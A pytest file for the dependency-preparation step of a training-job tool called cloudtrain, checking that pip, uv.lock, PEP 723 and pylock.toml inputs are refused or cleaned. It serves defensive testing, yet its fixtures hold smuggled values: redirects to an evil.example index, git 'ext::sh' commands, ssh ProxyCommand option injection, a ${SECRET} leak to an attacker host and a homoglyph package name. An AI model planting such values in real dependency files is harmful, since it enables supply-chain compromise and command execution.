"""Files of packages that somebody else has written: each is refused with its line, or nothing of it enters a list that it
should not enter."""

from __future__ import annotations

import re
from pathlib import Path
from typing import NamedTuple

import packaging
import pytest
from packaging.version import Version

import cloudtrain as ct
from cloudtrain import api
from cloudtrain.errors import JobError
from cloudtrain.lifecycle.preparing.prepare import Ready
from tests.locks import LOCK, OWN, PROJECT, PYPI, SETTINGS, lock, package

HASH = "0a" * 32
EVIL = "--index-url https://evil.example/simple"
MARKERS_OF_LOCKS = "" if Version(packaging.__version__) >= Version("25") else "CT056"
"""An older packaging does not know them, so a line with one is refused."""


class Case(NamedTuple):
    """The file that the job names, the files of the code, and the code and the place of the error; no code if the file
    is harmless."""

    named: str
    files: dict[str, str | bytes]
    code: str = ""
    place: str = ""


def pip(text: str | bytes, code: str = "", line: int = 1, **files: str) -> Case:
    """A requirements file; two underscores in the name of another file are a dot, and three a slash."""
    more = {name.replace("___", "/").replace("__", "."): other for name, other in files.items()}
    place = f"line {line} of `r.txt`" if code else ""
    return Case("r.txt", {"r.txt": text, **more}, code, place)


def uv(code: str = "CT056", place: str = "line ", **changes: str) -> Case:
    """A uv.lock of one package in which texts are changed: `version="..."`."""
    text = lock(['name = "tqdm"'], [package("tqdm", "4.67.1", **changes)])
    own = PROJECT.format(dependencies='"tqdm"')
    return Case("uv.lock", {"uv.lock": text, "pyproject.toml": own}, code, place)


def changed(before: str, after: str, code: str = "CT056", place: str = "line ") -> Case:
    """The same with another text in the place of one."""
    files = uv().files
    assert before in str(files["uv.lock"])
    text = str(files["uv.lock"]).replace(before, after)
    return Case("uv.lock", {**files, "uv.lock": text}, code, place)


def block(dependency: str, code: str = "CT056", place: str = "`train.py`") -> Case:
    """A script with a block of dependencies (PEP 723)."""
    text = f"# /// script\n# dependencies = [{dependency}]\n# ///\n"
    return Case("train.py", {"train.py": text}, code, place)


def pylock(entry: str, code: str = "CT056", place: str = "line ") -> Case:
    """A pylock.toml (PEP 751) of one package."""
    text = f'lock-version = "1.0"\n[[packages]]\n{entry}\n'
    return Case("pylock.toml", {"pylock.toml": text}, code, place)


ARCHIVE = f'sdist = {{name = "x-1.tar.gz", hashes = {{sha256 = "{HASH}"}}}}'
BLOCK = '# /// script\n# dependencies = ["tqdm"]\n# ///\n'
LONG = f"x = '{'y' * 25_000}'\n"


def archive(hashes: str = f'sha256 = "{HASH}"') -> str:
    """A package of a pylock.toml with an archive."""
    return f'name = "x"\nversion = "1"\nsdist = {{name = "x-1.tar.gz", hashes = {{{hashes}}}}}'


def wheel(tags: str) -> str:
    """A package of a pylock.toml with one wheel."""
    file = f'{{name = "x-1-{tags}.whl", hashes = {{sha256 = "{HASH}"}}}}'
    return f'name = "x"\nversion = "1"\nwheels = [{file}]'


def windows(name: str) -> Case:
    """A uv.lock of one package, of which only this wheel exists."""
    case = changed("https://files/tqdm.whl", f"https://files/{name}", "CT058", "`tqdm`")
    text = re.sub("(?m)^sdist = .*\n", "", str(case.files["uv.lock"]))
    return case._replace(files={**case.files, "uv.lock": text})


DEEP = f"deep = {'[' * 3000}{']' * 3000}\n"
SDIST = "74" * 32
"""The hash of tqdm's archive in a lock of `tests.locks`."""

CASES: dict[str, Case] = {
    # lines of pip
    "an option that pip does not have": pip("tqdm\n--evil x\n", "CT056", 2),
    "an item of a YAML list": pip("- tqdm\n", "CT056"),
    "an option behind a package": pip(f"tqdm {EVIL}\n", "CT056"),
    "options without an end": pip(f"tqdm {'-C=x' * 40} y\n", "CT056"),
    "an option behind a hash": pip(f"tqdm==1 --hash=sha256:{HASH} {EVIL}\n", "CT056"),
    "an abbreviated option": pip("--index https://evil.example\n", "CT056"),
    "an option without its value": pip("tqdm\n-r\n", "CT056", 2),
    "an index that is no address": pip("--index-url evil\n", "CT056"),
    "a quotation mark that is not closed": pip("-r 'a.txt\n", "CT056", a__txt=""),
    "a hash that is too short": pip("tqdm==1 --hash=sha256:evil\n", "CT056"),
    "a hash of another algorithm": pip(f"tqdm==1 --hash=md5:{'0' * 32}\n", "CT056"),
    "a name with other letters": pip("numpу\n", "CT056"),  # the last letter is Cyrillic
    "a version that is none": pip("tqdm==evil!\n", "CT056"),
    "an operator that is none": pip("tqdm=>1\n", "CT056"),
    "a local version in a range": pip("tqdm>=1+cu1\n", "CT056"),
    "a marker that is none": pip("tqdm; evil == 'x'\n", "CT056"),
    "a marker that is not closed": pip("tqdm; (os_name == 'posix'\n", "CT056"),
    "a marker without an answer": pip("tqdm\nnumpy; os_name ~= 'x'\n", "CT056", 2),
    "a marker of locks": pip("tqdm; 'x' in extras\n", MARKERS_OF_LOCKS),
    "a null byte": pip("tqdm\nx\0\n", "CT056", 2),
    "a line separator": pip(f"tqdm\u2028{EVIL}\n", "CT056"),
    "a form feed": pip(f"tqdm\f{EVIL}\n", "CT056"),
    "a next line of ISO 6429": pip(f"# a\x85{EVIL}\ntqdm\n", "CT056"),
    "a vertical tab": pip(f"tqdm\x0b{EVIL}\n", "CT056"),
    "UTF-16": pip("tqdm\n".encode("utf-16"))._replace(code="CT054", place="not UTF-8"),
    "Latin-1": pip("# é\ntqdm\n".encode("latin-1"))._replace(code="CT054", place="not UTF-8"),
    "a mark of UTF-8": pip("tqdm\n".encode("utf-8-sig")),
    "a comment that ends with a backslash": pip("# a \\\n--evil\n", "CT056", 2),
    "a loop": pip("-r r.txt\n", "CT056"),
    "a loop of two": pip("-r s.txt\n", "CT056", s__txt="-r r.txt\n")._replace(place="`s.txt`"),
    "a constraint that is not there": pip("tqdm\n-c evil.txt\n", "CT056", 2),
    "a file outside": pip("-r ../evil.txt\n", "CT056"),
    "a drive": pip("C:\\evil\\x-1-py3-none-any.whl\n", "CT056"),
    "an archive that is not there": pip("./x-1.tar.gz\n", "CT058"),
    "a wheel without a version": pip("./x.whl\n", "CT056", x__whl=""),
    "a wheel outside": pip("../x-1-py3-none-any.whl\n", "CT058"),
    "a folder outside": pip("tqdm\n-e ../evil\n", "CT058", 2),
    "a folder that is no package": pip("-e ./evil\n", "CT058", evil___x__py=""),
    "a package for another Python": pip("-e .\n", "CT058", pyproject__toml='[project]\nname = "a"\nrequires-python = ">=3.99"\n'),
    "a package that needs another one": pip("numpy==1\n-e .\n", "CT058", 2, pyproject__toml='[project]\nname = "a"\ndependencies = ["numpy>=2"]\n'),
    "wheels that are not there": pip("--find-links evil\ntqdm\n", "CT058"),
    "a wheel of Windows": pip("./x-1-cp312-cp312-win_amd64.whl\n", "CT058", **{"x-1-cp312-cp312-win_amd64__whl": ""}),
    "a wheel of another Python": pip("https://h/x-1-cp39-cp39-manylinux_2_28_x86_64.whl\n", "CT058"),
    "two versions": pip("tqdm==1\ntqdm==2\n", "CT058", 2),
    "a range without a version": pip("tqdm>=2\nTQDM<2\n", "CT058", 2),
    "a constraint that excludes it": pip("tqdm==1\n-c c.txt\n", "CT058", c__txt="tqdm==2\n")._replace(place="`c.txt`"),
    "a hash in one of two lines": pip(f"tqdm==1 --hash=sha256:{HASH}\nnumpy==1\n", "CT058", 2),
    "a torchvision for another torch": pip("torchvision==0.15.2\n", "CT058"),
    "versions for two systems": pip("tqdm==1; sys_platform == 'win32'\ntqdm==2; sys_platform != 'win32'\n"),
    "a password": pip("https://me:evil@h.example/x.zip\nx=1\n", "CT056", 2),
    # locks of uv
    "a version with an option": changed('version = "4.67.1"', f'version = "4.67.1\\n{EVIL}"'),
    "a name with an option": changed('name = "tqdm"\nversion', f'name = "tqdm\\n{EVIL}"\nversion', "CT058", "tqdm"),
    "a hash with an option": changed(f"sha256:{'74' * 16}", f"sha256:{'74' * 16}\\n{EVIL}"),
    "an index with an option": uv(source=f'registry = "https://h/simple\\n{EVIL}"'),
    "an index in a folder": uv(source='registry = "../evil"'),
    "an address with a space": uv(source=f'url = "https://h/x.zip {EVIL}"'),
    "an address with a tab": uv(source=f'url = "https://h/x.zip\\t{EVIL}"'),
    "an address of a file": uv(source='url = "file:///evil"'),
    "an archive above the code": uv(source='path = "../evil-1-py3-none-any.whl"'),
    "a commit that is none": uv(source=f'git = "https://h/x#main\\n{EVIL}"', archives=False),
    "a program for git": uv(source="git = 'ext::sh -c evil#0123abcd'", archives=False),
    "a folder of a repository": uv(source="git = 'https://h/x?subdirectory=a%20evil#0123abcd'", archives=False),
    "a version of the format": changed("version = 1\n", "version = 9\n", place="version 9"),
    "deep nesting": changed("version = 1\n", f"version = 1\n{DEEP}", place="`uv.lock`"),
    "a project that is nested": Case("uv.lock", {"uv.lock": LOCK, "pyproject.toml": OWN + DEEP}, "CT056", "`pyproject.toml`"),
    "a source that nobody knows": uv(place="`tqdm`", source='oci = "https://h/x"'),
    "wheels for Windows in a uv.lock": windows("tqdm-1-py3-none-win_amd64.whl"),
    "wheels for another Python in a uv.lock": windows("tqdm-1-cp311-cp311-manylinux_2_28_x86_64.whl"),
    # blocks of scripts
    "a text of dependencies": Case("train.py", {"train.py": '# /// script\n# dependencies = "tqdm"\n# ///\n'}, "CT056", "`train.py`"),
    "a table of dependencies": Case("train.py", {"train.py": '# /// script\n# dependencies = {tqdm = 1}\n# ///\n'}, "CT056", "`train.py`"),
    "an option of ssh in a block": block('"x @ git+ssh://-oProxyCommand=evil/x"'),
    "an option of ssh after a user": block('"x @ git+ssh://me@-oProxyCommand=evil/x"'),
    "an option of ssh in a uv.lock": uv(source="git = 'ssh://-oProxyCommand.evil/x#0123abcd'", archives=False),
    "an option of ssh after a user in a uv.lock": uv(source="git = 'ssh://git@-oevil/x#0123abcd'", archives=False),
    "a uv.lock without a text": Case("uv.lock", {"uv.lock": "", "pyproject.toml": OWN}, "CT056", "`uv.lock`"),
    "a list that is called uv.lock": Case("uv.lock", {"uv.lock": "tqdm\n", "pyproject.toml": OWN}, "CT056", "`uv.lock`"),
    "a uv.lock without packages": Case("uv.lock", {"uv.lock": "version = 1\n", "pyproject.toml": OWN}, "CT057", "`uv.lock`"),
    "an index of uv in a block": Case(
        "train.py",
        {"train.py": '# /// script\n# dependencies = ["tqdm"]\n# [[tool.uv.index]]\n# url = "https://h/simple"\n# ///\n'},
        "CT057", "`train.py`",
    ),
    "a line in a block": block(f'"tqdm @ https://h/x\\n{EVIL}"'),
    "an option in a block": block(f'"tqdm {EVIL}"'),
    "a line in a marker": block(f"\"tqdm; os_name != 'a\\n{EVIL}'\""),
    "a block that is nested": block(f'"tqdm"]\n# {DEEP}# x = ["a"', place="`train.py`"),
    "a variable in a block": block('"tqdm @ https://evil.example/${SECRET}"'),
    "a variable of the machine in a marker": block("\"tqdm; os_name != '${SECRET}'\""),
    "a file of the machine in a block": block('"tqdm @ file:///etc/x"'),
    "a path in a block": block('"tqdm @ ../x"'),
    "a repository of the machine in a block": block('"tqdm @ git+file:///etc/x"'),
    "a wheel without a version in a block": block('"tqdm @ https://h/x.whl"', place="train.py"),
    "a repository in a block": block('"tqdm @ git+https://h/x@main"', "", ""),
    "two blocks": Case("train.py", {"train.py": f"{BLOCK}\n{BLOCK}"}, "CT056", "`train.py`"),
    "two blocks below each other": Case("train.py", {"train.py": BLOCK * 2}, "CT056", "`train.py`"),
    "three blocks with code between": Case("train.py", {"train.py": f"x = 1\n{BLOCK}x = 2\n" * 3}, "CT056", "`train.py`"),
    "a block of another type": Case("train.py", {"train.py": f"{BLOCK}\n{BLOCK.replace('script', 'other')}"}),
    "a late block": Case("train.py", {"train.py": LONG + BLOCK.replace("tqdm", "-evil")}, "CT056", "`train.py`"),
    "a late block without its end": Case("train.py", {"train.py": LONG + BLOCK[:-6]}, "CT056", "`train.py`"),
    "a block that a comment continues": Case("train.py", {"train.py": f"{BLOCK}# more\n# ///\n"}, "CT056", "`train.py`"),
    # pylock.toml
    "only SHA-512": pylock(archive(f'sha512 = "{HASH * 2}"'), "", ""),
    "only SHA-384": pylock(archive(f'sha384 = "{HASH[:32] * 3}"'), "", ""),
    "a short SHA-512": pylock(archive('sha512 = "evil"')),
    "wheels for Windows": pylock(wheel("cp312-cp312-win_amd64"), "CT058", "`x`"),
    "wheels for another processor": pylock(wheel("cp312-cp312-manylinux_2_28_aarch64"), "CT058", "`x`"),
    "wheels for another Python": pylock(wheel("cp311-cp311-manylinux_2_28_x86_64"), "CT058", "`x`"),
    "no archive": pylock('name = "x"\nversion = "1"', "CT058", "`x`"),
    "a stable wheel": pylock(wheel("cp39-abi3-manylinux_2_28_x86_64"), "", ""),
    "two versions in a pylock.toml": pylock(f"{archive()}\n[[packages]]\n{archive()}", "CT058", "`x`"),
    "two versions of one name": pylock(f"{archive()}\n[[packages]]\n{archive().replace('x', 'X', 2)}", "CT058", "`x`"),
    "two versions for one system each": pylock(f"{archive()}\nmarker = \"os_name == 'nt'\"\n[[packages]]\n{archive()}", "", ""),
    "a torch twice": pylock("[[packages]]\n".join([archive().replace("x", "torch", 1).replace('"1"', '"2.13.0"') + "\n"] * 2), "CT058", "`torch`"),
    "a package for another Python in a pylock.toml": pylock(f'{archive()}\nrequires-python = ">=3.99"', "CT058", "`x`"),
    "a pylock.toml for another Python": Case(
        "pylock.toml", {"pylock.toml": f'lock-version = "1.0"\nrequires-python = "<3.12"\n[[packages]]\n{archive()}\n'}, "CT058", "`pylock.toml`",
    ),
    "a pylock.toml for other systems": Case(
        "pylock.toml", {"pylock.toml": f"lock-version = \"1.0\"\nenvironments = [\"os_name == 'nt'\"]\n[[packages]]\n{archive()}\n"}, "CT058", "`pylock.toml`",
    ),
    "a pylock.toml for no certain Python": Case(
        "pylock.toml", {"pylock.toml": f'lock-version = "1.0"\nrequires-python = "evil"\n[[packages]]\n{archive()}\n'}, "CT056", "`pylock.toml`",
    ),
    "a version of a pylock.toml": pylock(f'name = "x"\nversion = "1\\n{EVIL}"\n{ARCHIVE}'),
    "a hash of a pylock.toml": pylock(f'name = "x"\nversion = "1"\nwheels = [{{name = "x-1-py3-none-any.whl", hashes = {{sha256 = "{EVIL}"}}}}]'),
    "a repository of a pylock.toml": pylock(f'name = "x"\nvcs = {{type = "git", url = "https://h/x {EVIL}", commit-id = "0123abcd"}}'),
    "another program of a pylock.toml": pylock('name = "x"\nvcs = {type = "evil", url = "https://h/x", commit-id = "0123abcd"}'),
    "a later pylock.toml": Case("pylock.toml", {"pylock.toml": 'lock-version = "2.0"\n'}, "CT056", "version 2.0"),
    # files of other tools
    "a conda file": Case("environment.yml", {"environment.yml": "- tqdm\n"}, "CT056", "conda"),
    "a conda file of another name": Case("env.txt", {"env.txt": "dependencies: [tqdm]\n"}, "CT056", "conda"),
}  # fmt: skip

LINE = re.compile(
    r"#.*|--(?:extra-)?index-url https://\S+|-[cr] [\w./-]+|[\w.-]+==[\w.+]+(?: --hash=sha(?:256|384|512):[0-9a-f]{64,128})*"
    r"|tqdm(?: @ git\+https://h/x@main)?"
)
"""A line of a list that cloudtrain writes."""


def ready(folder: Path, case: Case) -> Ready:
    """The case as a job for SageMaker."""
    for path, text in {"train.py": "", "cloudtrain.toml": SETTINGS, **case.files}.items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_bytes(text.encode() if isinstance(text, str) else text)
    environment = ct.Environment(framework="pytorch", version="2.13", requirements=case.named)
    machine = ct.Resources(instance_type={"sagemaker": "ml.g5.2xlarge"})
    job = ct.TrainingJob(
        name="own", entry_point="train.py", environment=environment, resources=machine
    )
    return api._prepare(job, api._where(job, "sagemaker", None), (), None)


@pytest.mark.parametrize("name", CASES)
def test_no_foreign_text_enters_a_list(clean_environment: Path, name: str) -> None:
    """A file is refused with its code and place and without the word that is hidden in it, or it is harmless."""
    case = CASES[name]
    problems = []
    written = {}
    try:
        written = ready(clean_environment, case).tree.own_files
    except JobError as error:
        problems = error.problems
    assert [problem.code for problem in problems][:1] == ([case.code] if case.code else [])
    for problem in problems:
        assert case.place in problem.message
        assert "me:evil" not in problem.message
    for path, content in written.items():
        if path.endswith(".txt") and isinstance(content, bytes) and path != case.named:
            for line in content.decode().splitlines():
                assert LINE.fullmatch(line), line


def two(*, archives: bool = False, source: str = PYPI) -> Case:
    """A uv.lock of two packages. The second one has archives on request."""
    numpy = package("numpy", "2.5.5", source=source, archives=archives)
    text = lock(['name = "tqdm"', 'name = "numpy"'], [package("tqdm", "4.67.1"), numpy])
    own = PROJECT.format(dependencies='"tqdm", "numpy"')
    return Case("uv.lock", {"uv.lock": text, "pyproject.toml": own})


UNHASHED = 'wheels = [\n    { url = "https://files/numpy.whl" },\n]\n'
WITHOUT_HASHES = {
    "an index without hashes": (two(source=f"{PYPI} }}\n{UNHASHED}x = {{ y = 1"), True),
    "a repository": (two(source='git = "https://h/x?rev=main#0123abcd"'), True),
    "another algorithm": (
        pylock(f"{archive()}\n[[packages]]\n{archive('md5 = 1').replace('x', 'numpy', 2)}"),
        True,
    ),
    "hashes of all": (two(archives=True), False),
    "hashes of none": (block('"tqdm", "numpy"'), False),
}
"""Locks in which a package lacks hashes, and whether others have some."""


@pytest.mark.parametrize("name", WITHOUT_HASHES)
def test_a_plan_says_that_no_hash_is_checked(clean_environment: Path, name: str) -> None:
    """pip checks the hashes of all packages or of none, so one package without them is named."""
    case, is_named = WITHOUT_HASHES[name]
    notes = [note for note in ready(clean_environment, case).draft.notes if "hash" in note]
    assert len(notes) == is_named
    assert all("numpy" in note and "tqdm" not in note for note in notes)
